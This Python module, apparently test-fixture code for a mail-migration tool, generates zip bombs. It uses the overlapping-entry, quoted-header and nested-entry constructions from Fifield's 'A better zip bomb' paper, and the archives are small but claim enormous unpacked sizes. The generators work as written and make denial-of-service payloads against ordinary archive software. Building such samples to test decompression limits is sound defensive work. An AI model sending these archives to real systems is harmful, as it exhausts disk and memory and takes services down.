"""Zip files whose entries share their octets, as in D. Fifield, "A better zip bomb" (WOOT 2019): small, vast unpacked.

overlapping(path, count)       # one file, which every record of the directory names (section 3.1)
quoting(path, count)           # each file quotes the header of the next, so that all names are right (section 3.2)
nested(path, count)            # the same of stored files, whose headers, names and CRC-32 are all as ours are
"""

import zlib
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

from migrator.archive.layout import Entry, central, ending, local

AT = datetime(2001, 2, 3, tzinfo=UTC)
KERNEL = 1_000_000  # octets that are unpacked of one file
_DEFLATED = b"\x08\0"


def overlapping(path: Path, count: int) -> int:
    """Octets that it claims to hold."""
    squeezed = _squeezed(bytes(KERNEL))
    entries = [Entry(f"mail/{number}.eml", KERNEL, zlib.crc32(bytes(KERNEL)), AT) for number in range(count)]
    body = _deflated(local(entries[0]), 0, len(squeezed), KERNEL) + squeezed
    _written(path, body, [_deflated(central(one, 0), 2, len(squeezed), KERNEL) for one in entries])
    return count * KERNEL


def quoting(path: Path, count: int) -> int:
    """Octets that it claims to hold. From the last file to the first, each quotes what stands behind it."""
    held, unpacked, records = _squeezed(bytes(KERNEL)), bytes(KERNEL), list[tuple[Entry, int, int, int]]()
    tail = b""
    for number in reversed(range(count)):
        if tail:  # a stored block of DEFLATE, which is not its last one: it holds the next file's header as it is
            quoted, _, rest = tail.partition(held)
            held = (
                b"\0" + len(quoted).to_bytes(2, "little") + (len(quoted) ^ 0xFFFF).to_bytes(2, "little") + quoted + held
            )
            unpacked = quoted + unpacked
            assert not rest
        entry = Entry(f"mail/{number}.eml", len(unpacked), zlib.crc32(unpacked), AT)
        tail = _deflated(local(entry), 0, len(held), len(unpacked)) + held
        records.append((entry, len(tail), len(held), len(unpacked)))
    told = [
        _deflated(central(one, len(tail) - behind), 2, packed, size) for one, behind, packed, size in reversed(records)
    ]
    _written(path, tail, told)
    return sum(size for *_, size in records)


def nested(path: Path, count: int) -> int:
    """Octets that it claims to hold."""
    tail, entries = bytes(KERNEL), list[tuple[Entry, int]]()
    for number in reversed(range(count)):
        entry = Entry(f"mail/{number}.eml", len(tail), zlib.crc32(tail), AT)
        tail = local(entry) + tail
        entries.append((entry, len(tail)))
    _written(path, tail, [central(one, len(tail) - behind) for one, behind in reversed(entries)])
    return sum(one.size for one, _ in entries)


def _squeezed(octets: bytes) -> bytes:
    deflating = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflating.compress(octets) + deflating.flush()


def _deflated(header: bytes, moved: int, packed: int, unpacked: int) -> bytes:
    """A header or, `moved` by two octets, a record, of a file that is compressed (APPNOTE 4.3.7, 4.3.12)."""
    sizes = packed.to_bytes(4, "little") + unpacked.to_bytes(4, "little")
    return header[: 8 + moved] + _DEFLATED + header[10 + moved : 18 + moved] + sizes + header[26 + moved :]


def _written(path: Path, body: bytes, records: Sequence[bytes]) -> None:
    directory = b"".join(records)
    path.write_bytes(body + directory + ending(len(records), len(directory), len(body)))
